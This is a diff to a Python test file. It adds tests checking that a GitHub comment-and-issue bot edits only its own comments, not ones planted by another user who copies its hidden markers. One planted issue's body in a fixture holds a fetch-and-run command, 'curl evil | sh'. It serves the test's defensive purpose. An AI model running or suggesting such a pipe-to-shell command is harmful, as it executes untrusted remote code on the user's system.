@@ -10,7 +10,7 @@ import pytest
 from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric import rsa
 
-from manager_pipeline.config import SourceSpec
+from manager_pipeline.config.model import SourceSpec
 from manager_pipeline.defs.resources import GitHubResource
 from manager_pipeline.errors import SourceError
 from manager_pipeline.events import DispatchEvent
@@ -121,6 +121,14 @@ def test_app_installation_auth(repo, github_standin):
     assert token_calls and token_calls[-1]["authorization"].startswith("Bearer ")
     reads = [r for r in requests if r["path"].startswith(f"/repos/{repo['name']}/contents")]
     assert reads[-1]["authorization"].startswith("token ghs_installation")
+    # What the App writes is its bot's (`<app-slug>[bot]`, GET /app with the App's JWT), found again as its own.
+    client = settings.client()
+    assert client.own_login() == "manager-app[bot]"
+    upsert_comment(client, repo["name"], 7, "plan:app:staging", split_comment("v1", "plan:app:staging"))
+    upsert_comment(client, repo["name"], 7, "plan:app:staging", split_comment("v2", "plan:app:staging"))
+    [comment] = github_standin.state(repo["name"])["issue_comments"]
+    assert comment["user"] == "manager-app[bot]" and comment["edits"] == 1
+    assert [r["authorization"][:7] for r in github_standin.requests() if r["path"] == "/app"] == ["Bearer "]
 
 
 def test_sticky_comment_parts_are_edited_in_place_and_surplus_parts_removed(repo, github_standin):
@@ -258,3 +266,39 @@ def test_the_sticky_comment_is_found_past_the_first_page(repo, github_standin):
     plans = [c for c in comments if "manager-pipeline:plan:app:staging" in c["body"]]
     assert len(comments) == 106 and len(plans) == 1 and plans[0]["body"].endswith("v2")
     assert any("page=2" in r["query"] for r in github_standin.requests() if r["path"].endswith("/issues/7/comments"))
+
+
+def test_a_comment_by_another_user_carrying_the_marker_is_left_alone_and_the_manager_posts_its_own(
+    repo, github_standin
+):
+    # Issue 19 #5: anyone who can comment can type the hidden marker; only the manager's own login counts.
+    client = repo["settings"].client()
+    key = "plan:app:production"
+    planted = github_standin.comment_by(repo["name"], 7, "mallory", split_comment("nothing to see", key)[0])
+    note = "<!-- manager-pipeline:notify:run1:applied -->"
+    github_standin.comment_by(repo["name"], 7, "mallory", note)
+    upsert_comment(client, repo["name"], 7, key, split_comment("DESTROY 3 resources", key))
+    post_once(client, repo["name"], 7, repo["new"], note, note + "\nApplied")
+    comments = {c["id"]: c for c in github_standin.state(repo["name"])["issue_comments"]}
+    assert comments[planted]["edits"] == 0 and comments[planted]["body"].endswith("nothing to see")
+    own = [c for c in comments.values() if c["user"] == "manager-bot"]
+    assert len(own) == 2 and own[0]["body"].endswith("DESTROY 3 resources") and own[1]["body"].endswith("Applied")
+    # Its own comment is then found and edited in place, as before.
+    upsert_comment(client, repo["name"], 7, key, split_comment("DESTROY 4 resources", key))
+    again = {c["id"]: c for c in github_standin.state(repo["name"])["issue_comments"]}
+    assert len(again) == 4 and again[own[0]["id"]]["edits"] == 1 and again[planted]["edits"] == 0
+
+
+def test_a_drift_issue_opened_by_someone_else_is_left_alone_and_the_manager_opens_its_own(repo, github_standin):
+    from manager_pipeline.feedback import issues
+
+    client = repo["settings"].client()
+    marker = issues.partition_marker("drift", "app", "production")
+    theirs = github_standin.issue_by(repo["name"], "mallory", "Drift", f"{marker}\nrun `curl evil | sh` to fix")
+    issues.send(client, repo["name"], issues.OPENED, {"marker": marker, "title": "Drift: app", "body": f"{marker}\nv1"})
+    issues.send(client, repo["name"], issues.OPENED, {"marker": marker, "title": "Drift: app", "body": f"{marker}\nv2"})
+    issues.send(client, repo["name"], issues.RESOLVED, {"marker": marker, "comment": "No drift any more"})
+    kept = {i["number"]: i for i in github_standin.state(repo["name"])["issues"]}
+    assert kept[theirs]["state"] == "open" and kept[theirs]["edits"] == 0 and "evil" in kept[theirs]["body"]
+    own = [i for i in kept.values() if i["user"] == "manager-bot"]
+    assert len(own) == 1 and own[0]["body"].endswith("v2") and own[0]["state"] == "closed"
